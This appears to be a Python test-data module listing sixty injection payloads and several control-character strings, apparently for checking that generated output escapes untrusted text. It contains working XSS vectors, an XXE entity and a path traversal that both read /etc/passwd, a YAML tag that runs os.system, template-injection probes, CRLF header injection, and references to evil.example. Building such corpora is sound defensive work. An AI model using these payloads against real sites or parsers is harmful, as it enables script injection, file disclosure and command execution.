"""Texts that break out of the place they are written into, if anything lets them: sixty, one for each way.

Does not know where they are written.
"""

PAYLOADS: tuple[str, ...] = (
    # Elements.
    "<script>alert(1)</script>",
    "<ScRiPt >alert(2)</sCrIpT >",
    "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(6)>",
    "<iframe srcdoc='<script>alert(7)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(8)</script>'></object>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(10)'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<form action=javascript:alert(12)><button>x</button></form>",
    "<details open ontoggle=alert(13)>",
    "<a href='javascript:alert(14)'>x</a>",
    "<style>@import '//evil.example/a.css';</style>",
    "<b style='background:url(javascript:alert(16))' onclick=alert(16)>x</b>",
    "<template><script>alert(17)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(18)>'>",
    "<xss id=x tabindex=1 onfocus=alert(19)></xss>",
    "<input autofocus onfocus=alert(20)>",
    # Ends of what they stand in.
    "</title><script>alert(21)</script>",
    "</script><script>alert(22)</script>",
    "</textarea><script>alert(23)</script>",
    "--><script>alert(24)</script><!--",
    "]]><script>alert(25)</script><![CDATA[",
    "</style><script>alert(26)</script>",
    "<![CDATA[<script>alert(27)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "</text></svg><script>alert(29)</script>",
    "</summary></entry></feed>",
    # Quotes and attributes.
    '" onmouseover="alert(31)',
    "' onmouseover='alert(32)",
    '"><img src=x onerror=alert(33)>',
    "'><img src=x onerror=alert(34)>",
    "` onmouseover=alert(35) `",
    "x onmouseover=alert(36) y=",
    "&quot; onmouseover=&quot;alert(37)",
    "&#34;&#62;&#60;script&#62;alert(38)&#60;/script&#62;",
    "&lt;script&gt;alert(39)&lt;/script&gt;",
    '\\"><script>alert(40)</script>',
    # Addresses.
    "javascript:alert(41)",
    "JaVaScRiPt:alert(42)",
    "java\tscript:alert(43)",
    "&#106;avascript&colon;alert(44)",
    "&Tab;javascript:alert(45)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg0Nik8L3NjcmlwdD4=",
    "vbscript:msgbox(47)",
    "//evil.example/x",
    'https://evil.example/" onclick="alert(49)',
    "%6aavascript:alert(50)",
    # Templates, YAML, JSON, scripts.
    "{{ 7*7 }}{% for x in range(9) %}x{% endfor %}{# x #}",
    "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('alert(52)')()}}",
    "key: value\n- [unclosed, {a: 'b\n*alias &anchor !!python/object/apply:os.system [id]",
    '","injected":"yes","x":"',
    "'; alert(55); var a='",
    "\u2028alert(56)\u2029",
    # Letters that turn, hide or are no letters.
    "\u202e<gnp.txt\u2066evil\u2069\u200b\ufeff",
    "a\u0301\u0489\ud7ff\U000e0001\U0001f468\u200d\U0001f4bb",
    "../../../../etc/passwd",
    "A" * 300 + "<script>alert(60)</script>",
)

CONTROLS: tuple[str, ...] = (
    "a\0<script>alert(1)</script>",
    "\x1b]0;x\x07",
    "a\x08b",
    "\ufffe\uffff",
    "a\r\nSet-Cookie: b",
)
"""Characters that neither XML nor YAML may have, and what begins a line of a protocol."""
